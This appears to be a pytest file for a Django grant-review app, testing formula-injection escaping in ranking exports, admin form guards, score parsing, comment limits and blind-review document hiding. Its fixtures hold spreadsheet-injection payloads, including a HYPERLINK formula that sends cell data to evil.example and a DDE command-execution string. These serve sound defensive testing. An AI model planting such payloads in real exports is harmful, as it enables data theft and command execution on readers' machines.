"""Holes closed in the review pages: formulas in the ranking export, the admin's empty
declaration form, scores typed in other digits, and documents on a blind fund."""
import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from applications import services as application_services
from applications.models import Application
from reviews import services
from reviews.models import ConflictDeclaration, Review
from tests import factories
from tests.applications.helpers import pdf
from tests.reviews.test_views import login

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


# The ranking export ----------------------------------------------------------------------


@pytest.fixture
def hostile_ranking(fund, in_review, make_reviewer, declared):
    """A reviewed application whose organisation name and title are spreadsheet formulas."""
    organization = factories.OrganizationFactory(name=FORMULA)
    application = in_review(title="@SUM(1+1)*cmd|' /C calc'!A0", organization=organization)
    rooted, feasible = fund.rubrics.get().criteria.all()
    reviewer = make_reviewer()
    services.review_submit(assignment=declared(application, reviewer), by=reviewer, recommendation="fund",
                           scores={rooted.pk: {"score": 2}, feasible.pk: {"score": 3}})
    return application


def test_the_ranking_csv_holds_no_cell_a_spreadsheet_would_run(client, officer, fund, hostile_ranking):
    login(client, officer)
    response = client.get(reverse("reviews:ranking_export", args=[fund.slug]) + "?format=csv")
    rows = list(csv.reader(io.StringIO(response.getvalue().decode())))
    fields = [field for row in rows for field in row]
    assert not [field for field in fields if field.startswith(FORMULA_TRIGGERS)]
    assert "'" + FORMULA in fields  # still readable, as text
    header, data = rows[0], rows[1]
    assert data[header.index("Weighted score (0-100)")] == "37.50"


def test_the_ranking_xlsx_holds_no_formula_and_amounts_stay_numbers(client, officer, fund, hostile_ranking):
    login(client, officer)
    response = client.get(reverse("reviews:ranking_export", args=[fund.slug]) + "?format=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert "'" + FORMULA in [cell.value for cell in cells]
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    score = sheet.cell(row=2, column=header.index("Weighted score (0-100)") + 1)
    assert score.data_type == "n" and float(score.value) == 37.5


# The admin ----------------------------------------------------------------------------------


def test_an_empty_admin_declaration_form_is_refused_with_a_message_and_stores_nothing(client):
    admin = factories.UserFactory(is_staff=True, is_superuser=True)
    login(client, admin)
    add = reverse("admin:reviews_conflictdeclaration_add")
    response = client.post(add, {}, follow=True)
    assert response.status_code == 200
    assert "declared by the reviewer" in response.getvalue().decode()
    assert not ConflictDeclaration.objects.exists()
    assert client.get(reverse("admin:reviews_conflictdeclaration_changelist")).status_code == 200


@pytest.mark.parametrize("model", ["assignment", "review"])
def test_admin_add_forms_whose_fields_are_all_read_only_say_where_to_go_instead(client, model):
    admin = factories.UserFactory(is_staff=True, is_superuser=True)
    login(client, admin)
    response = client.post(reverse(f"admin:reviews_{model}_add"), {}, follow=True)
    assert response.status_code == 200
    assert "reviewer workspace" in response.getvalue().decode()


# Scores typed in other digits -----------------------------------------------------------


def test_scores_in_arabic_indic_digits_count_and_exponents_are_refused(client, fund, in_review, make_reviewer, declared):
    application = in_review()
    reviewer = make_reviewer()
    assignment = declared(application, reviewer)
    rooted, feasible = fund.rubrics.get().criteria.all()
    login(client, reviewer)
    url = reverse("reviews:score", args=[assignment.pk])
    response = client.post(url, {f"score_{rooted.pk}": "1e0", f"score_{feasible.pk}": "٣", "save": "1"})
    assert response.status_code == 200
    assert "whole number" in response.getvalue().decode()
    assert not Review.objects.exists()
    client.post(url, {f"score_{rooted.pk}": "٤", f"score_{feasible.pk}": "٣", "save": "1"})
    review = Review.objects.get(assignment=assignment)
    assert sorted(score.score for score in review.scores.all()) == [3, 4]


def test_review_comments_have_a_length_limit(client, fund, in_review, make_reviewer, declared):
    assignment = declared(in_review(), make_reviewer())
    login(client, assignment.reviewer)
    url = reverse("reviews:score", args=[assignment.pk])
    assert 'maxlength="' in client.get(url).content.decode()
    response = client.post(url, {"comment": "x" * 2_000_000, "save": "1"})
    assert "at most" in response.getvalue().decode()
    assert not Review.objects.exists()


# Blind review: documents --------------------------------------------------------------------


@pytest.fixture
def documents(fund, in_review, make_reviewer, declared):
    """An application in review with a budget naming its organisation, and a declared reviewer."""
    organization = factories.OrganizationFactory(name="Hidden Name Collective")
    applicant = factories.UserFactory(roles=["applicant"], organization=organization)
    application = factories.ApplicationFactory(fund=fund, organization=organization, created_by=applicant)
    budget = application_services.attachment_add(
        application=application, kind="budget", uploaded_file=pdf("hidden-name-collective-budget.pdf"), by=applicant
    )
    # Documents are added while a draft; the review starts later (the state moves only by transitions).
    Application.objects.filter(pk=application.pk).update(state="in_review")
    application.refresh_from_db()
    assignment = declared(application, make_reviewer())
    return assignment, budget


def _blind(fund, blind):
    fund.blind_review = blind
    fund.save(update_fields=["blind_review"])


def test_on_a_blind_fund_the_score_page_lists_no_documents(client, fund, documents):
    assignment, budget = documents
    _blind(fund, True)
    login(client, assignment.reviewer)
    page = client.get(reverse("reviews:score", args=[assignment.pk])).content.decode()
    assert "hidden-name-collective-budget.pdf" not in page
    assert reverse("applications:attachment", args=[budget.pk]) not in page
    assert "Hidden Name Collective" not in page
    assert "documents are withheld" in page


def test_on_a_blind_fund_the_assigned_reviewer_cannot_download_a_document(client, fund, documents):
    assignment, budget = documents
    _blind(fund, True)
    login(client, assignment.reviewer)
    response = client.get(reverse("applications:attachment", args=[budget.pk]))
    assert response.status_code in (403, 404)
    assert b"%PDF" not in b"".join(getattr(response, "streaming_content", [response.content]))


def test_on_an_open_fund_the_assigned_reviewer_sees_and_downloads_documents(client, fund, documents):
    assignment, budget = documents
    _blind(fund, False)
    login(client, assignment.reviewer)
    page = client.get(reverse("reviews:score", args=[assignment.pk])).content.decode()
    assert "hidden-name-collective-budget.pdf" in page and "Hidden Name Collective" in page
    response = client.get(reverse("applications:attachment", args=[budget.pk]))
    assert response.status_code == 200
    assert b"".join(response.streaming_content).startswith(b"%PDF")
